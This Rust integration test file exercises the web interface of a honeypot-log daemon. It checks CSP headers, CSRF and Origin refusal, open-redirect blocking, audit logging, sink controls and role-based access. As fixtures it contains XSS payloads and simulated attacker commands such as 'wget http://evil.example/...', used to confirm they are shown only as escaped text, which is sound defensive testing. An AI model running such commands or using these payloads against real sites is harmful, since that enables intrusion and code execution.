//! The page over a real daemon, as HTTP: what it sends, to whom, and what it does not do for strangers.
mod receivers;
mod served;

use served::{Answer, Daemon, Home, exchange, get, log, post, until};
use std::os::unix::fs::{PermissionsExt, chown};
use std::os::unix::net::UnixStream;

/// Every page that can be asked for without knowing what there is.
const PAGES: [&str; 8] = ["/", "/search", "/search?query=eventid:*", "/indicators", "/sinks", "/sinks/archive", "/reports", "/audit"];

fn home() -> Home {
    Home::with("group_role = \"developer\"\n[[sink]]\nname = \"archive\"\ntype = \"file\"\npath = \"out.ndjson\"\nbatch_age_ms = 5\n")
}

fn load(daemon: &Daemon, home: &Home, name: &str, bytes: &[u8]) {
    let path = home.write(name, bytes);
    let answer = daemon.post("/api/v1/load", &serde_json::json!({ "paths": [path] }).to_string());
    assert_eq!(answer.status, 200, "{answer:?}");
}

/// A login and a command of a session of its own, now.
fn session(id: &str, username: &str, command: &str) -> Vec<u8> {
    let now = honeyguide::events::time::format(honeyguide::events::time::now());
    let line = |kind: &str, name: &str, value: &str| {
        let mut event = serde_json::json!({ "eventid": kind, "session": id, "src_ip": "203.0.113.7", "sensor": "hive", "timestamp": now });
        event[name] = value.into();
        event["password"] = "x".into();
        format!("{event}\n")
    };
    let login = line("cowrie.login.success", "username", username);
    [login, line("cowrie.command.input", "input", command)].concat().into_bytes()
}

/// The token of the forms of a page.
fn token(page: &Answer) -> String {
    let text = page.text();
    let (_, rest) = text.split_once(r#"name="csrf" value=""#).unwrap_or_else(|| panic!("no form: {text}"));
    rest.split('"').next().expect("it ends").to_owned()
}

fn form(path: &str, headers: &str, fields: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{headers}Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {}\r\n\r\n{fields}",
        fields.len()
    )
}

fn header<'a>(answer: &'a Answer, name: &str) -> Option<&'a str> {
    answer.head.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(": "))
}

/// Sends a form, and answers the page that its answer leads to.
fn followed(daemon: &Daemon, request: &str) -> Answer {
    let answer = daemon.unix(request);
    assert_eq!(answer.status, 303, "{answer:?}");
    daemon.get(header(&answer, "location").expect("a place"))
}

#[test]
fn every_page_is_html_that_runs_nothing_but_our_script() {
    let (home, mut nonces) = (home(), std::collections::HashSet::new());
    let daemon = Daemon::start(&home);
    load(&daemon, &home, "cowrie.json", &log(1, 2_000));
    for path in PAGES {
        let page = daemon.get(path);
        assert_eq!(page.status, 200, "{path}: {}", page.text());
        assert_eq!(header(&page, "content-type"), Some("text/html; charset=utf-8"), "{path}");
        let policy = header(&page, "content-security-policy").expect("a policy");
        for part in ["default-src 'none'", "style-src 'self'", "img-src 'self' data:", "connect-src 'self'", "form-action 'self'"] {
            assert!(policy.contains(part), "{path}: {policy}");
        }
        assert!(policy.contains("frame-ancestors 'none'") && policy.contains("base-uri 'none'") && !policy.contains("unsafe"), "{policy}");
        let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).expect("a nonce").to_owned();
        assert!(page.text().contains(&format!(r#"<script src="/live.js" nonce="{nonce}" defer>"#)));
        assert!(nonces.insert(nonce), "never the same");
        let expected = [("x-frame-options", "deny"), ("referrer-policy", "same-origin"), ("cross-origin-opener-policy", "same-origin")];
        for (name, value) in expected.into_iter().chain([("x-content-type-options", "nosniff"), ("cache-control", "no-store")]) {
            assert_eq!(header(&page, name), Some(value), "{path}: {name}");
        }
        let text = page.text();
        assert!(!text.contains("style=") && !text.contains("onclick") && !text.contains("href=\"http"), "{path}");
        assert_eq!(text.matches("<h1").count(), 1, "{path}");
        assert!(text.contains(r#"<html lang="en">"#) && text.contains(r##"href="#main""##) && text.contains("<title>"), "{path}");
    }
    let described = daemon.get("/api/v1/openapi.json").json();
    let paths: Vec<&String> = described["paths"].as_object().expect("paths").keys().collect();
    assert!(paths.iter().all(|path| !["/", "/search", "/login", "/style.css"].contains(&path.as_str())), "{paths:?}");
}

#[test]
fn style_and_script_are_sent_once() {
    let home = home();
    let daemon = Daemon::start(&home);
    for (path, kind) in [("/style.css", "text/css; charset=utf-8"), ("/live.js", "text/javascript; charset=utf-8")] {
        let sent = daemon.tcp(&get(path, "localhost"));
        assert_eq!((sent.status, header(&sent, "content-type"), header(&sent, "cache-control")), (200, Some(kind), Some("no-cache")));
        let etag = header(&sent, "etag").expect("an ETag").to_owned();
        let asked = format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nIf-None-Match: W/\"x\", {etag}\r\n\r\n");
        let again = daemon.tcp(&asked);
        assert_eq!((again.status, again.body.len()), (304, 0), "{again:?}");
    }
}

#[test]
fn strangers_are_led_to_the_form_and_from_there_nowhere_else() {
    let home = home();
    let daemon = Daemon::start(&home);
    let to = |path: &str| {
        let answer = daemon.tcp(&get(path, "localhost"));
        assert_eq!(answer.status, 303, "{path}: {answer:?}");
        header(&answer, "location").expect("a place").to_owned()
    };
    assert_eq!(to("/"), "/login");
    assert_eq!(to("/search?query=a%20b"), "/login?next=%2fsearch%3fquery%3da%2520b");
    assert_eq!(to("/sessions/x"), "/login?next=%2fsessions%2fx");
    for path in ["/sinks/archive/pause", "/logout"] {
        let refused = daemon.tcp(&form(path, "", "csrf=x"));
        assert_eq!(refused.status, 401, "{path}: {refused:?}");
    }
    let shown = daemon.tcp(&get("/login?next=//evil.example/", "localhost"));
    assert_eq!(shown.status, 200);
    assert!(shown.text().contains(r#"name="next" value="/""#) && !shown.text().contains("evil"), "{}", shown.text());
    assert!(daemon.tcp(&get("/login?next=/audit", "localhost")).text().contains(r#"name="next" value="/audit""#));
    // Whoever is known already has no form.
    for (next, place) in [("/audit", "/audit"), ("https://evil.example", "/"), ("//evil.example", "/"), ("/%5Cevil.example", "/")] {
        assert_eq!(header(&daemon.get(&format!("/login?next={next}")), "location"), Some(place), "{next}");
    }
}

#[test]
fn a_wrong_key_gets_no_session_and_is_in_the_audit() {
    let home = home();
    let daemon = Daemon::start(&home);
    let csrf = token(&daemon.tcp(&get("/login", "localhost")));
    let unasked = daemon.tcp(&form("/login", "", "key=x"));
    assert_eq!((unasked.status, header(&unasked, "set-cookie")), (403, None), "a form of somebody else's");
    let long = "k".repeat(5_000);
    for key in ["wrong", "", " ", long.as_str()] {
        let refused = daemon.tcp(&form("/login", "", &format!("csrf={csrf}&key={key}&next=/audit")));
        assert_eq!((refused.status, header(&refused, "set-cookie")), (401, None), "{refused:?}");
        assert!(refused.text().contains(r#"role="alert""#) && refused.text().contains(r#"value="/audit""#));
        assert!(!refused.text().contains(&long), "a key is not shown");
    }
    let name = format!("honeyguide_session_{}", daemon.listen.port());
    for cookie in [format!("{name}=x"), format!("{name}="), format!("{name}=\"\"; {name}=../..")] {
        let asked = format!("GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nCookie: {cookie}\r\n\r\n");
        assert_eq!(daemon.tcp(&asked).status, 303, "{cookie}");
    }
    until("the refusals in the audit", || {
        let records = daemon.get("/api/v1/audit?kind=request&limit=100").json();
        let of_login = |record: &&serde_json::Value| record["details"]["path"] == "/login" && record["details"]["status"] == 401;
        records["records"].as_array().expect("records").iter().filter(of_login).count() == 4
    });
}

#[test]
fn a_form_of_another_site_changes_nothing() {
    let home = home();
    let daemon = Daemon::start(&home);
    let state = || daemon.get("/api/v1/sinks/archive").json()["state"].as_str().map(str::to_owned);
    let csrf = token(&daemon.get("/sinks"));
    let field = format!("csrf={csrf}");
    let foreign =
        ["Origin: http://evil.example\r\n", "Origin: null\r\n", "Sec-Fetch-Site: cross-site\r\n", "Sec-Fetch-Site: same-site\r\n"];
    for headers in foreign {
        let refused = daemon.unix(&form("/sinks/archive/pause", headers, &field));
        assert_eq!(refused.status, 403, "{headers}: {refused:?}");
        assert!(refused.text().contains("another site"), "{headers}");
    }
    let other = "0".repeat(64);
    for fields in ["", "csrf=", "csrf=x", &format!("csrf={other}"), &format!("CSRF={csrf}"), &format!("csrf={csrf}0")] {
        assert_eq!(daemon.unix(&form("/sinks/archive/pause", "", fields)).status, 403, "{fields}");
    }
    let json = daemon.post("/sinks/archive/pause", &serde_json::json!({ "csrf": csrf }).to_string());
    assert_eq!(json.status, 400, "only what a form sends");
    let twice = daemon.unix(&form("/sinks/archive/pause", "", &format!("csrf={csrf}&csrf={csrf}")));
    assert!(matches!(twice.status, 303 | 400 | 403), "{twice:?}");
    assert_eq!(daemon.get("/sinks/archive/pause").status, 405, "nor by a link");
    let home = "Origin: http://localhost\r\nSec-Fetch-Site: same-origin\r\n";
    assert_eq!(daemon.unix(&form("/sinks/archive/resume", home, &field)).status, 303);
    assert_ne!(state().as_deref(), Some("paused"));
}

#[test]
fn a_sink_is_paused_resumed_and_tested_and_the_audit_says_by_whom() {
    let home = home();
    let daemon = Daemon::start(&home);
    let csrf = token(&daemon.get("/sinks"));
    let order = |what: &str| followed(&daemon, &form(&format!("/sinks/archive/{what}"), "", &format!("csrf={csrf}")));
    assert!(order("pause").text().contains("It is paused"));
    until("the pause", || daemon.get("/sinks").text().contains("/sinks/archive/resume"));
    assert!(daemon.get("/").text().contains("Sink archive is paused"));
    assert!(order("resume").text().contains("It goes on"));
    assert!(order("test").text().contains("would take deliveries"));
    assert!(order("retry").text().contains("no dead letter"));
    assert_eq!(daemon.unix(&form("/sinks/nosuch/pause", "", &format!("csrf={csrf}"))).status, 404);
    let records = daemon.get("/api/v1/audit?limit=100").json();
    let records = records["records"].as_array().expect("records").clone();
    let numbers: Vec<u64> = records.iter().filter_map(|record| record["number"].as_u64()).collect();
    assert!(numbers.is_sorted_by(|before, after| before > after), "newest first: {numbers:?}");
    let pause = records.iter().find(|record| record["details"]["path"] == "/sinks/archive/pause").expect("recorded");
    assert_eq!((&pause["kind"], &pause["details"]["status"]), (&"request".into(), &303.into()));
    assert_eq!((&pause["details"]["before"]["paused"], &pause["details"]["after"]["paused"]), (&false.into(), &true.into()));
    let page = daemon.get("/audit?kind=request").text();
    assert!(
        page.contains("<del><bdi><code>false</code></bdi></del>") && page.contains("<ins><bdi><code>true</code></bdi></ins>"),
        "{page}"
    );
    let page = daemon.get("/audit?kind=sink_ordered").text();
    assert!(page.contains("order: pause") && page.contains("uid ") && !page.contains("/sinks/archive/test"), "{page}");
}

#[test]
fn the_state_alone_is_what_the_overview_says_of_it() {
    let home = home();
    let daemon = Daemon::start(&home);
    let state = daemon.get("/state");
    assert_eq!((state.status, header(&state, "content-type")), (200, Some("text/html; charset=utf-8")));
    assert!(header(&state, "content-security-policy").is_some_and(|policy| policy.starts_with("default-src 'none'")), "{state:?}");
    assert!(state.text().contains("All is well") && state.text().contains("/sinks/archive") && !state.text().contains("<html"));
    assert!(daemon.get("/").text().contains(r#"data-state="/state""#));
    assert_eq!(daemon.post("/api/v1/sinks/archive/order", "\"pause\"").status, 200);
    until("the pause", || daemon.get("/state").text().contains("Sink archive is paused"));
    assert!(daemon.get("/state").text().contains("data-title=\"(1) Overview\""));
    assert_eq!(daemon.tcp(&get("/state", "localhost")).status, 303, "for whoever logged in");
}

#[test]
fn loading_the_page_again_repeats_neither_the_order_nor_its_outcome() {
    let home = home();
    let daemon = Daemon::start(&home);
    let csrf = token(&daemon.get("/sinks"));
    let ordered = || daemon.get("/api/v1/audit?kind=sink_ordered").json()["records"].as_array().map(Vec::len);
    for (order, told) in
        [("pause", "It is paused"), ("resume", "It goes on"), ("test", "would take deliveries"), ("retry", "no dead letter")]
    {
        let answer = daemon.unix(&form(&format!("/sinks/archive/{order}"), "", &format!("csrf={csrf}")));
        assert_eq!((answer.status, header(&answer, "location")), (303, Some("/sinks/archive")), "{order}");
        assert!(!daemon.get("/sinks").text().contains(told), "it is told on the sink's page: {order}");
        let before = ordered();
        assert!(daemon.get("/sinks/archive").text().contains(told), "{order}");
        assert!(!daemon.get("/sinks/archive").text().contains(told), "{order} is told once");
        assert_eq!(ordered(), before, "{order} is done once");
    }
    // Nothing of the address is told.
    for words in ["?done=paused", "?notice=<b>", "?It%20is%20paused"] {
        let page = daemon.get(&format!("/sinks/archive{words}")).text();
        assert!(!page.contains("class=\"done") && !page.contains("<b>"), "{words}: {page}");
    }
}

#[test]
fn the_audit_is_told_page_by_page() {
    let home = home();
    let daemon = Daemon::start(&home);
    for order in ["pause", "resume", "pause", "resume"] {
        assert_eq!(daemon.post("/api/v1/sinks/archive/order", &format!("\"{order}\"")).status, 200);
    }
    let numbers = |answer: &serde_json::Value| -> Vec<u64> {
        answer["records"].as_array().expect("records").iter().map(|record| record["number"].as_u64().expect("a number")).collect()
    };
    for filter in ["", "&kind=sink_ordered", "&kind=request", "&kind=nosuch"] {
        let all = daemon.get(&format!("/api/v1/audit?limit=1000{filter}")).json();
        assert_eq!(all["next"], serde_json::Value::Null);
        let (mut paged, mut before) = (Vec::new(), String::new());
        loop {
            let page = daemon.get(&format!("/api/v1/audit?limit=3{filter}{before}")).json();
            paged.extend(numbers(&page));
            let Some(next) = page["next"].as_u64() else { break };
            before = format!("&before={next}");
        }
        assert_eq!(paged, numbers(&all), "{filter}");
        assert_eq!(paged.is_empty(), filter.contains("nosuch"), "{filter}");
    }
    let ordered = daemon.get("/api/v1/audit?kind=sink_ordered").json();
    assert_eq!(ordered["records"].as_array().map(Vec::len), Some(4));
    assert_eq!(ordered["records"][0]["details"]["order"], "resume");
    assert_eq!(daemon.get("/api/v1/audit?limit=0").json()["records"].as_array().map(Vec::len), Some(1), "at least one");
    assert_eq!(daemon.get("/api/v1/audit?limit=many").status, 400);
}

#[test]
fn dead_letters_are_shown_and_delivered_again() {
    let receiver = receivers::webhook::start();
    receiver.faults().poison(Some("poisonous"));
    let secret = tempfile::NamedTempFile::new().expect("made");
    std::fs::write(secret.path(), receivers::webhook::SECRET).expect("written");
    std::fs::set_permissions(secret.path(), std::fs::Permissions::from_mode(0o600)).expect("ours");
    let home = Home::with(&format!(
        "[[sink]]\nname = \"siem\"\ntype = \"webhook\"\nurl = \"{}\"\nallow_private = [\"127.0.0.1\"]\nsecret_file = \"{}\"\nbatch_age_ms = 5\n",
        receiver.url(),
        secret.path().display()
    ));
    let daemon = Daemon::start(&home);
    load(&daemon, &home, "cowrie.json", &session("c0ffee", "root", "poisonous <b>command</b>"));
    until("a dead letter", || daemon.get("/api/v1/sinks/siem").json()["dead_letters"] == 1);
    let sink = daemon.get("/api/v1/sinks/siem").json();
    assert_eq!(sink["dead_letters_kept"], 1);
    assert!(sink["failures_hour"].as_u64() >= Some(1) && sink["success_percent"].as_f64().is_some_and(|percent| percent < 100.0), "{sink}");
    until("the metric", || daemon.get("/metrics").text().contains("honeyguide_sink_success_ratio{sink=\"siem\"} 0"));
    drop(daemon);
    let daemon = Daemon::start(&home);
    let page = daemon.get("/sinks/siem");
    assert!(page.text().contains("Deliver them again"), "{}", page.text());
    assert!(daemon.get("/").text().contains("Sink siem has 1 dead letter"));
    receiver.faults().poison(None);
    let sent = followed(&daemon, &form("/sinks/siem/retry", "", &format!("csrf={}", token(&page))));
    assert!(sent.text().contains("All 1 arrived."), "{}", sent.text());
    assert!(daemon.get("/sinks/siem").text().contains("refused nothing for good"));
    assert!(!daemon.get("/").text().contains("Sink siem has"), "it is no more");
    assert_eq!(daemon.get("/api/v1/sinks/siem").json()["dead_letters_kept"], 0);
    assert_eq!(daemon.get("/api/v1/sinks/siem").json()["success_percent"], 100.0, "since the restart");
}

#[test]
fn the_audit_says_first_what_people_did() {
    let home = home();
    let daemon = Daemon::start(&home);
    load(&daemon, &home, "cowrie.json", &log(2, 200));
    let page = daemon.get("/audit").text();
    assert!(page.contains("/api/v1/load") && !page.contains("schema learned"), "{page}");
    assert!(daemon.get("/audit?people=false").text().contains("schema learned"));
    assert!(daemon.get("/audit?kind=schema_learned").text().contains("schema learned"));
    let of_people = daemon.get("/api/v1/audit?people=true&limit=1000").json();
    let of_people = of_people["records"].as_array().expect("records").clone();
    assert!(!of_people.is_empty() && of_people.iter().all(|record| record["details"]["by"].is_string()));
}

#[test]
fn whatever_attackers_wrote_stays_text() {
    let home = home();
    let daemon = Daemon::start(&home);
    let names = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'/><svg/onload=alert(1)>",
        "\u{202e}gpj.exe\u{1b}[31m",
        "</title><b>",
    ];
    for (number, name) in names.iter().enumerate() {
        load(
            &daemon,
            &home,
            &format!("{number}.json"),
            &session(&format!("<i>\"{number}"), name, &format!("wget http://evil.example/{name}")),
        );
    }
    let lines = honeyguide::simulate::hostile::lines().join(&b'\n');
    load(&daemon, &home, "hostile.json", &lines);
    let id = "%3Ci%3E%220";
    let quoted = "username:%22%3Cscript%3Ealert(1)%3C/script%3E%22";
    let paths = [
        "/",
        "/search?query=eventid:*",
        "/search?query=exists:session&order=oldest",
        "/indicators",
        "/reports?kind=daily&period=last",
        "/audit",
    ];
    let more = [
        format!("/sessions/{id}"),
        format!("/search?query={quoted}"),
        "/sessions/c0ffee123456".to_owned(),
        "/search?query=%22%3Cimg".to_owned(),
    ];
    for path in paths.iter().map(|path| (*path).to_owned()).chain(more) {
        let page = daemon.get(&path).text();
        for element in ["<script>", "<img", "<svg/", "<b>", "<i>", "onerror=\"", "href=\"http", "href=\"javascript"] {
            assert!(!page.contains(element), "{path}: {element}");
        }
        let hostile = page.chars().find(|char| *char != '\n' && honeyguide::telemetry::printable::is_hostile(*char));
        assert_eq!(hostile, None, "{path}");
    }
    let found = daemon.get(&format!("/search?query={quoted}")).text();
    assert!(found.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && found.contains(&format!("/sessions/{id}")), "{found}");
    assert!(daemon.get(&format!("/sessions/{id}")).text().contains("LOGGED IN"));
    assert_eq!(daemon.get("/search?query=%22x").status, 400);
}

#[test]
fn a_search_goes_on_page_by_page_and_says_where_it_is_none() {
    let home = home();
    let daemon = Daemon::start(&home);
    load(&daemon, &home, "cowrie.json", &log(2, 400));
    let (mut path, mut rows, mut pages) = ("/search?query=eventid:*&order=oldest".to_owned(), 0, 0);
    loop {
        let page = daemon.get(&path).text();
        (rows, pages) = (rows + page.matches("class=\"nowrap\"><time").count(), pages + 1);
        let Some(next) = page.split(r#"rel="next" href=""#).nth(1).and_then(|rest| rest.split('"').next()) else { break };
        path = next.replace("&amp;", "&");
    }
    assert_eq!((rows, pages), (400, 8));
    let wrong = daemon.get("/search?query=eventid:x%20usrname:root");
    assert_eq!(wrong.status, 400);
    assert!(wrong.text().contains("character 11") && wrong.text().contains("<mark>u</mark>srname:root"), "{}", wrong.text());
    assert_eq!(daemon.get("/search?query=eventid:*&cursor=nonsense").status, 400);
    let missing = daemon.get("/sessions/nosuch");
    assert_eq!((missing.status, header(&missing, "content-type")), (404, Some("text/html; charset=utf-8")));
    assert!(missing.text().contains("no event has the session id"));
    let elsewhere = daemon.get("/reports?kind=daily&period=never");
    assert!(elsewhere.status == 400 && elsewhere.text().contains("is no day"), "{}", elsewhere.text());
}

#[test]
fn an_indicator_leads_to_its_sightings_sessions_and_relations() {
    let home = home();
    let daemon = Daemon::start(&home);
    load(&daemon, &home, "cowrie.json", &session("c0ffee", "root", "wget http://evil.top/a.sh"));
    let list = daemon.get("/indicators?kind=url&hostile=true").text();
    assert!(list.contains("hxxp://evil[.]top/a.sh") && list.contains("/indicators/http%3A%2F%2Fevil.top%2Fa.sh"), "{list}");
    for path in ["/indicators/http%3A%2F%2Fevil.top%2Fa.sh", "/indicators/hxxp%3A%2F%2Fevil%5B.%5Dtop%2Fa.sh"] {
        let page = daemon.get(path).text();
        for part in ["hxxp://evil[.]top/a.sh", "203[.]0[.]113[.]7", "/sessions/c0ffee", "Seen in the same events", "of 100"] {
            assert!(page.contains(part), "{path}: {part}: {page}");
        }
        assert!(!page.contains("\"http://evil"), "{page}");
    }
    assert_eq!(header(&daemon.get("/indicators?value=%20203.0.113.7"), "location"), Some("/indicators/203.0.113.7"));
    assert_eq!(daemon.get("/indicators/unheard.of").status, 404);
    assert_eq!(daemon.get("/indicators?kind=nosuch").status, 400);
}

#[test]
fn a_developer_sees_the_state_and_no_evidence() {
    if !nix::unistd::geteuid().is_root() {
        println!("SKIPPED: a_developer_sees_the_state_and_no_evidence: needs root to take on another user");
        return;
    }
    const NOBODY: u32 = 65_534;
    let home = home();
    std::fs::set_permissions(home.dir.path(), std::fs::Permissions::from_mode(0o755)).expect("ours");
    std::fs::create_dir_all(home.data()).expect("made");
    chown(home.data(), None, Some(NOBODY)).expect("ours");
    std::fs::set_permissions(home.data(), std::fs::Permissions::from_mode(0o750)).expect("ours");
    let daemon = Daemon::start(&home);
    load(&daemon, &home, "cowrie.json", &session("c0ffee", "root", "secretive-command"));
    let theirs = |request: String| {
        let socket = daemon.socket.clone();
        let asked = std::thread::spawn(move || {
            become_nobody();
            exchange(UnixStream::connect(&socket).expect("open to the group"), &request)
        });
        asked.join().expect("answered")
    };
    let overview = theirs(get("/", "localhost"));
    let text = overview.text();
    assert!(text.contains("uid 65534 (developer)") && text.contains("events a second") && text.contains("/sinks/archive"), "{text}");
    for evidence in ["secretive-command", "203[.]0", "href=\"/search", "href=\"/audit", "href=\"/indicators", "live-rows"] {
        assert!(!text.contains(evidence), "{evidence}: {text}");
    }
    for path in ["/search?query=eventid:*", "/sessions/c0ffee", "/indicators", "/indicators/203.0.113.7", "/reports", "/audit"] {
        let refused = theirs(get(path, "localhost"));
        assert_eq!(refused.status, 403, "{path}");
        assert!(refused.text().contains("needs the right") && header(&refused, "content-type") == Some("text/html; charset=utf-8"));
    }
    let csrf = token(&theirs(get("/sinks", "localhost")));
    let roots = token(&daemon.get("/sinks"));
    assert_eq!(theirs(form("/sinks/archive/pause", "", &format!("csrf={roots}"))).status, 403, "a token is one's own");
    assert_eq!(theirs(form("/sinks/archive/pause", "", &format!("csrf={csrf}"))).status, 303);
    assert_eq!(theirs(post("/api/v1/sinks/archive/order", "\"resume\"")).status, 200, "programs need none");
}

/// Only this thread: the system call, not the library's function, which changes all threads.
fn become_nobody() {
    use nix::libc::{SYS_setgroups, SYS_setresgid, SYS_setresuid, syscall};
    const NOBODY: u32 = 65_534;
    // SAFETY: these calls take numbers and, for no groups, no memory.
    let failed = unsafe {
        [
            syscall(SYS_setgroups, 0, std::ptr::null::<u32>()),
            syscall(SYS_setresgid, NOBODY, NOBODY, NOBODY),
            syscall(SYS_setresuid, NOBODY, NOBODY, NOBODY),
        ]
    };
    assert_eq!(failed, [0; 3]);
}
